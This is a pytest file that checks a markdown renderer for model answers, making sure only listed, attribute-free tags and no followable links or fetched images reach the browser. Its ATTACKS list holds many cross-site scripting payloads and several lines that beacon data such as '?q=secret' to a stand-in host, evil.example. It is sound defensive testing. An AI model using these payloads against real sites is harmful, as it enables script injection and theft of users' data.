"""An answer can make the browser show text, and nothing else."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest

from appliance.web.markdown import ATTRIBUTES, MAX_PARSED_CHARACTERS, TAGS, plain, render

ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=\"javascript:alert(1)\">here</a>",
    "<form action=https://evil.example><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<video poster=https://evil.example/x.png></video>",
    "<details open ontoggle=alert(1)>",
    "<p style='background:url(https://evil.example/x.png)'>",
    "<!--><script>alert(1)</script-->",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea></textarea><script>alert(1)</script>",
    "[here](javascript:alert(1))",
    "[here](JaVaScRiPt:alert(1))",
    "[here](java&#x09;script:alert(1))",
    "[here](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[here](vbscript:msgbox(1))",
    "[here](https://evil.example/?q=secret)",
    "[here](//evil.example)",
    "[here][1]\n\n[1]: https://evil.example",
    "![shown](https://evil.example/beacon.png?q=secret)",
    "![shown](data:image/svg+xml;base64,PHN2Zz4=)",
    "![a\" onerror=\"alert(1)](x)",
    "[![inner](https://evil.example/a.png)](https://evil.example)",
    "<https://evil.example>",
    "<javascript:alert(1)>",
    "```html\"><script>alert(1)</script>\ncode\n```",
    "`<script>alert(1)</script>`",
    "| a | b |\n|---|:-:|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "1. <b onclick=alert(1)>bold</b>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<\u0000img src=x onerror=alert(1)>",
    "<ScRiPt\n>alert(1)</sCrIpT\t>",
    "<x onfocus=alert(1) tabindex=1 autofocus>",
    "\u202egpj.exe <img src=x>",
)  # fmt: skip


class Reader(HTMLParser):
    """Collects every tag and attribute a browser would see."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {(tag, name) for name, _ in attrs}


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_but_listed_tags_without_attributes_comes_out(attack: str) -> None:
    """Whatever a model writes, only tags of the list come out, and none with an attribute."""
    reader = Reader()
    reader.feed(render(attack))
    assert reader.tags <= TAGS
    assert all(name in ATTRIBUTES.get(tag, set()) for tag, name in reader.attributes)


def test_a_link_keeps_its_text_and_shows_its_address() -> None:
    """A link is readable, address included, and cannot be followed."""
    html = render("see [the guideline](https://example.org/a)")
    assert html == "<p>see the guideline (https://example.org/a)</p>\n"


def test_an_image_becomes_its_description_and_address() -> None:
    """An image is never fetched: its description and address stand in its place."""
    html = render("![a scan](https://example.org/s.png)")
    assert html == "<p>a scan (https://example.org/s.png)</p>\n"


def test_an_address_in_brackets_is_shown_once() -> None:
    """An address that is its own text is not repeated."""
    assert render("<https://example.org>") == "<p>https://example.org</p>\n"


def test_raw_html_is_shown_as_text() -> None:
    """HTML that a model writes is seen as characters, so that nothing is hidden either."""
    assert "&lt;b&gt;" in render("<b>bold</b>")


@pytest.mark.parametrize(
    ("text", "tag"),
    [
        ("| a |\n|---|\n| 1 |", "table"),
        ("- one\n- two", "ul"),
        ("```\ncode\n```", "pre"),
        ("**strong**", "strong"),
        ("~~gone~~", "s"),
        ("> quoted", "blockquote"),
        ("# Heading", "h3"),
    ],
)
def test_the_usual_forms_are_rendered(text: str, tag: str) -> None:
    """Tables, lists, code, emphasis, quotes and headings look like what they are."""
    assert f"<{tag}>" in render(text)


def test_a_numbered_list_keeps_its_first_number() -> None:
    """A list that begins at 3 is shown beginning at 3."""
    assert '<ol start="3">' in render("3. third")


def test_control_and_reordering_characters_are_dropped() -> None:
    """What is invisible or turns the reading order around is not shown."""
    assert plain("a\x00b\x1b[31mc\u202ed\te\nf") == "ab[31mcd\te\nf"


def test_right_to_left_text_and_emoji_survive() -> None:
    """Arabic, Hebrew and emoji are shown as they were written."""
    assert "نعم שלום 🙂" in render("نعم שלום 🙂")


def test_a_very_long_answer_is_shown_as_plain_text() -> None:
    """Beyond the limit nothing is parsed, and everything is escaped."""
    html = render("<i>" + "x" * MAX_PARSED_CHARACTERS)
    assert html.startswith("<pre>&lt;i&gt;x")


@pytest.mark.parametrize(
    "text",
    ["[" * 20_000, "*a " * 10_000, "> " * 5_000, "`" * 20_000, "|" * 20_000, "<" * 20_000,
     "[a](" * 5_000, "x" * 190_000],
)  # fmt: skip
def test_hostile_nesting_is_rendered_in_bounded_time(text: str) -> None:
    """Input built to make a parser slow costs seconds at most."""
    began = time.perf_counter()
    html = render(text)
    assert time.perf_counter() - began < 10
    assert not re.search(r"<a |<img", html)
